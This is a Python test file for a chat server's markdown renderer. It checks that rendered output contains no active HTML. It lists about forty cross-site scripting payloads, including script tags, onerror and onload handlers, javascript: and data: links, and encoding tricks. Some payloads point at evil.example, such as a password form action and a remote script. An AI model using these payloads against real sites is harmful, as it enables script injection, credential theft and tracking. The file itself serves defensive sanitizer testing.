"""Nothing that anybody writes becomes markup that acts."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xiaoer_server.brain.markdown import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></p><style><img src onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href='vbscript:x' onclick=alert(1)>x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.gif)",
    '![x](x"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    '`<img src=x onerror="alert(1)">`',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<style>body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div style='position:fixed'>x",
    "<details open ontoggle=alert(1)>",
]

TAG_NAMES = "p br hr strong em code pre blockquote ul ol li a table thead tbody tr th td"
TAGS = frozenset(TAG_NAMES.split()) | {f"h{level}" for level in range(1, 7)}
LINK = re.compile(r"https?://|mailto:|tel:|/|#")


class Acting(HTMLParser):
    """Gathers what may not be in the HTML, as a browser's tokenizer would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            allowed = {"href": LINK.match(value or ""), "rel": value == "noopener nofollow", "title": tag == "a"}
            if not (allowed.get(name) or (tag == "ol" and name == "start")):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_become_text(text: str) -> None:
    assert Acting(render(text)).found == []


@given(st.lists(st.sampled_from([*ATTACKS, "**", "[", "](", ")", "\n\n", "> ", "- ", "`", "|"]), max_size=6))
def test_attacks_cannot_be_built_from_parts(parts: list[str]) -> None:
    assert Acting(render("".join(parts))).found == []


def test_the_check_itself_notices_what_acts() -> None:
    assert Acting('<p><a href="https://a.example" rel="noopener nofollow">x</a></p>').found == []
    for bad in ("<script>", "<p onclick=x>", '<a href="javascript:alert(1)">', "<img src=x>", "<!-- -->"):
        assert Acting(bad).found


def test_what_answers_need_is_kept() -> None:
    html = render("**粗** and `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote")
    for tag in ("<strong>粗</strong>", "<code>code</code>", "<ol>", "<li>", "<td>1</td>", "<blockquote>"):
        assert tag in html


def test_links_lead_out_without_a_trace() -> None:
    assert render("[help](/help/demo/x)") == '<p><a href="/help/demo/x" rel="noopener nofollow">help</a></p>\n'
    assert 'rel="noopener nofollow"' in render("[x](https://a.example)")
    # A bare address stays text: a visitor's words must not turn into links by themselves.
    assert "<a" not in render("www.evil.example https://evil.example")
